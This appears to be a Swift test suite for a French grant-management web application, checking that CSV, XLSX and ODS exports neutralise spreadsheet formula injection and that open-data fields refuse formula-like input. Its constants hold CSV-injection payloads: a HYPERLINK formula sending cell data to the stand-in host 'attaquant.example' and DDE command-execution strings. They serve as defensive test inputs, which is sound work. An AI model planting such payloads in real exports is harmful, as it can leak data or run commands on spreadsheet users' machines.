import Fluent
import Foundation
import PacteCore
import PacteStore
@testable import PacteWeb
import Testing
import VaporTesting

/// OWASP « CSV injection »: a name typed `=HYPERLINK(…)` must reach the finance officer's
/// spreadsheet as text, in every download format, and never be published as such in open data.
@Suite("Injection de formules : les exports tableur restent du texte, les fichiers open data refusent à la saisie")
struct FormulaInjectionTests {
    static let hyperlink = #"=HYPERLINK("https://attaquant.example/?v="&A1;"Cliquez ici")"#
    static let at = "@SUM(1+1)*cmd|' /C calc'!A0"
    static let minus = "-2+3+cmd|' /C calc'!A0"

    @Test("Ce qui commence comme une formule", arguments: [
        ("=1+1", true), ("+33 1 23", true), ("-5", true), ("@SUM(A1)", true), ("\t=1", true), ("\r=1", true),
        ("  =1+1", true), ("\n@x", true), ("Boulangerie Martin", false), ("", false), ("1 400,00 €", false),
        ("— sans objet", false), ("l'@telier", false), ("  ", false), ("＝1+1", false),
    ])
    func startsLikeFormula(text: String, expected: Bool) {
        #expect(SpreadsheetFormula.startsLikeFormula(text) == expected, "\(text.debugDescription)")
        #expect(SpreadsheetFormula.neutralised(text) == (expected ? "'" + text : text))
    }

    @Test func csvCellsAndHeadersGetTheApostrophe() throws {
        let sheet = Spreadsheet(sheetName: "Essai", header: ["=Titre", "Montant"], rows: [
            [.text(Self.hyperlink), .amount(Money(cents: -50))], [.text("-"), .integer(-2)], [.text("01234567800012"), .empty],
        ])
        let records = try Office.records(String(decoding: try FrenchExcelCSV.data(sheet), as: UTF8.self))
        #expect(records == [["'=Titre", "Montant"], ["'" + Self.hyperlink, "-0,50"], ["'-", "-2"], ["01234567800012", ""]],
                "amounts and integers stay numbers, identifiers stay exact")
    }

    @Test func openDataRefusalSaysWhyInFrench() throws {
        let refusal = try #require(SpreadsheetFormula.openDataRefusal("=1+1", label: "Objet"))
        #expect(refusal.hasPrefix("« Objet » ne peut pas commencer par « = »"))
        #expect(refusal.contains("open data (SCDL)"))
        #expect(SpreadsheetFormula.openDataRefusal("\tx", label: "Nom")?.contains("une tabulation") == true)
        #expect(SpreadsheetFormula.openDataRefusal("Ville de Sézanne", label: "Nom") == nil)
    }

    @Test func aPlanFileRefusesAFormulaTitleOrFunderName() throws {
        let plan = #"{"title":"TITLE","funders":[{"id":"v","name":"NAME"}],"actions":[{"code":"1","title":"A","lines":[{"id":"l","label":"L","amount":"100"}],"shares":[{"funder":"v","remainder":true}]}]}"#
        func decode(title: String, name: String) -> PlanFileError? {
            let text = plan.replacingOccurrences(of: "TITLE", with: title).replacingOccurrences(of: "NAME", with: name)
            do throws(PlanFileError) { _ = try PlanFile.decode(Data(text.utf8)); return nil } catch { return error }
        }
        #expect(decode(title: "Convention", name: "Ville") == nil)
        #expect(decode(title: "=WEBSERVICE(1)", name: "Ville")?.path == "title")
        #expect(decode(title: "Convention", name: "+Ville")?.path == "funders[0].name")
    }

    @Test("Tableau de suivi et registre de minimis en CSV, XLSX et ODS : LibreOffice y lit le texte hostile, aucune cellule n'est une formule",
          .enabled(if: Office.isInstalled || Office.isRequired, "LibreOffice (soffice) est absent ; PACTE_TEST_OFFICE=required fait échouer ce test"),
          arguments: Engine.available)
    func hostileNamesStayTextInEveryFormat(engine: Engine) async throws {
        try await withDemo(engine) { app in
            let (convention, token, company) = try await playSeed001(app)
            let renamed = try await app.call(.PATCH, "/api/v1/companies/\(company)", token: token, json: #"{"name":\#(try jsonString(Self.hyperlink))}"#)
            #expect(renamed.status == .ok, "\(renamed.body.string)")
            let action = try #require(try await ActionModel.query(on: app.db).filter(\.$convention.$id == convention).filter(\.$code == "FA1").first())
            let retitled = try await app.call(.PATCH, "/api/v1/conventions/\(convention)/actions/\(try action.requireID())", token: token,
                                              json: #"{"code":\#(try jsonString(Self.at))}"#)
            #expect(retitled.status == .ok, "\(retitled.body.string)")
            // The tracking table names a funder by its short name, which open data never shows (so entry takes it).
            let ccst = try #require(try await OrganisationModel.query(on: app.db).filter(\.$shortName == "CCST").first())
            ccst.shortName = Self.minus
            try await ccst.save(on: app.db)

            var files: [(fileExtension: String, data: Data)] = []
            for base in ["/conventions/\(convention)/suivi", "/aides-de-minimis/registre"] {
                for format in SpreadsheetFormat.allCases {
                    let query = base.hasPrefix("/aides") ? "?du=01/01/2021&au=31/12/2021" : ""
                    let response = try await app.call(.GET, "\(base).\(format.rawValue)\(query)", token: token)
                    #expect(response.status == .ok, "\(base).\(format.rawValue)")
                    files.append((format.rawValue, Data(response.body.readableBytesView)))
                }
            }
            let trackingCSV = try Office.records(String(decoding: files[0].data, as: UTF8.self))
            #expect(trackingCSV.contains { $0.contains { $0.hasPrefix("'" + Self.at) } } && trackingCSV.contains { $0.contains("'" + Self.minus) }, "\(trackingCSV)")
            for record in trackingCSV + (try Office.records(String(decoding: files[3].data, as: UTF8.self))) {
                for field in record { #expect(!SpreadsheetFormula.startsLikeFormula(field), "\(field)") }
            }

            let opened = try await Office.openedAsODS(files)
            let expected = [[Self.at, Self.minus], [Self.hyperlink]]
            for (index, content) in opened.enumerated() {
                let format = files[index].fileExtension
                let shown = Office.paragraphs(content)
                #expect(!content.contains("table:formula"), "\(format) n° \(index): a cell holds a formula")
                // LibreOffice shows the apostrophe of a CSV cell (Excel hides it); typed cells show the text alone.
                for text in expected[index / 3] {
                    // The action's cell is « code title »: the hostile code starts it.
                    let start = format == "csv" ? "'" + text : text
                    #expect(shown.contains { $0.hasPrefix(start) }, "\(format) n° \(index) should show \(text): \(shown)")
                }
            }
            // The check can fail: the same text in a plain CSV is a formula once opened.
            let unprotected = try await Office.openedAsODS([("csv", Data("a;b\r\n\(Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\""));x\r\n".utf8))])
            #expect(try #require(unprotected.first).contains("table:formula"), "LibreOffice evaluates an unprotected CSV cell")
        }
    }

    @Test("Open data (SCDL) : un nom, un intitulé ou un objet de délibération en forme de formule est refusé à la saisie, en français",
          arguments: Engine.available)
    func openDataFieldsRefuseFormulasAtEntry(engine: Engine) async throws {
        try await withDemo(engine) { app in
            let admin = try await app.token("admin@demo.pacte.fr")
            let cma = try await app.token("agent.sud-territoire.cma@demo.pacte.fr")
            let before = try await app.auditCount()
            let organisation = try await app.call(.POST, "/api/v1/organisations", token: admin,
                                                  json: #"{"name":\#(try jsonString(Self.hyperlink)),"kind":"commune"}"#)
            #expect(organisation.status == .unprocessableEntity)
            let problem = try problemDetail(organisation)
            #expect(problem.field == "name" && problem.detail.contains("« Nom » ne peut pas commencer par « = »"), "\(problem)")

            let convention = try await app.conventionID(titled: "seed 001")
            for (field, value) in [("title", "+Convention"), ("reference", "@2021-07")] {
                let patched = try await app.call(.PATCH, "/api/v1/conventions/\(convention)", token: cma, json: #"{"\#(field)":"\#(value)"}"#)
                #expect(patched.status == .unprocessableEntity, "\(field): \(patched.body.string)")
                #expect(try problemDetail(patched).field == field)
            }
            let authority = try #require(try await ConventionPartyModel.query(on: app.db).filter(\.$convention.$id == convention).first()).$organisation.id
            let deliberation = try await app.call(.POST, "/api/v1/conventions/\(convention)/deliberations", token: cma, json: """
                {"organisationID":"\(authority)","sessionDate":"2021-02-01","membersInOffice":10,"itemNumber":"2021-12","subject":"-1+1 subvention",
                 "vote":{"present":10,"votesFor":10,"votesAgainst":0,"abstentions":0,"notTakingPart":0,"secretBallot":false}}
                """)
            #expect(deliberation.status == .unprocessableEntity, "\(deliberation.body.string)")
            #expect(try problemDetail(deliberation).field == "subject")
            #expect(try await app.auditCount() == before, "a refusal writes nothing")

            // A deliberation stored before the rule is held back from the open-data file, and counted.
            let stored = try #require(try await DeliberationModel.query(on: app.db).filter(\.$convention.$id == convention).first())
            stored.subject = "=1+1 ancienne saisie"
            try await stored.save(on: app.db)
            let published = try await app.call(.GET, "/conventions/\(convention)/deliberations.csv", token: cma)
            #expect(published.status == .ok)
            #expect(published.headers.first(name: "X-Pacte-Lignes-Incompletes") == "1")
            #expect(!published.body.string.contains("=1+1"), "\(published.body.string)")
        }
    }

    private func jsonString(_ text: String) throws -> String { String(decoding: try JSONEncoder().encode(text), as: UTF8.self) }
}
